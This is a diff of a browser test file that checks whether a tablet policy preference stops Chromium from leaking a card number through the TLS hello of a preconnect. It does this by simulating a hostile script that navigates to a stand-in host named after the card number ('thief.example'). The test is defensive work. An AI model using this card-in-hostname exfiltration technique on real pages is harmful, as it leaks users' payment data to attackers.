@@ -6,16 +6,14 @@ import { expect, test } from '../support/fixtures.ts';
 import type { Tenant } from '../support/tenant.ts';
 
 /**
- * A script that leaves for an address with the card number in its host's name: the page refuses it, but a browser that connects
- * ahead has named the host in its TLS hello by then. The policies for tablets end that; here the preference is set that the
- * policy sets.
+ * A hostile script navigates to a host named like the card number. The page refuses, but a browser that preconnects
+ * has named the host in its TLS hello. The tablets' policies prevent that by the preference set here.
  */
 
-/** The browser with all its services; the one without a window does not connect ahead. */
+/** The whole browser: without a window it does not preconnect. */
 const BROWSER = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
 const CARD = '4111111111111111';
 
-/** A TCP socket, and the names of hosts in the TLS hellos that have come to it. */
 async function openSocket() {
   const names: string[] = [];
   const server = createServer((socket) => {
@@ -36,7 +34,7 @@ async function openSocket() {
 
 test.skip(!existsSync(BROWSER), 'needs a whole Chromium');
 
-/** The hosts that were named when a script in the card document has left for a refused one, and a page for an allowed one. */
+/** The named hosts after a script of the card document left for a refused host, and a page for an allowed one. */
 async function namesWith(
   option: number,
   tenant: Pick<Tenant, 'url'>,
@@ -64,7 +62,7 @@ async function namesWith(
     `https://${CARD}.thief.example:${thief.port}/`,
   );
   await expect.poll(find, 'the page refuses the address').toBeUndefined();
-  // Asked for afterwards, and allowed: had the other been named, it was named before.
+  // Allowed and later: a hello of the other would have come before.
   const other = await context.newPage();
   await other.goto(`https://other.thief.example:${thief.port}/`).catch(() => undefined);
   await expect.poll(() => thief.names).toContain('other');
@@ -75,7 +73,7 @@ async function namesWith(
 
 test('a refused host is not named by a browser with the policy for tablets', async ({ tenant }, info) => {
   expect(await namesWith(2, tenant, info.outputPath('with'))).not.toContain(CARD);
-  // Only where one without it does name the host has that shown anything.
+  // The proof counts only where a run without the preference names the host.
   const names = await namesWith(0, tenant, info.outputPath('without'));
   test.skip(!names.includes(CARD), 'this browser had no time to connect ahead, so that nothing was shown');
 });
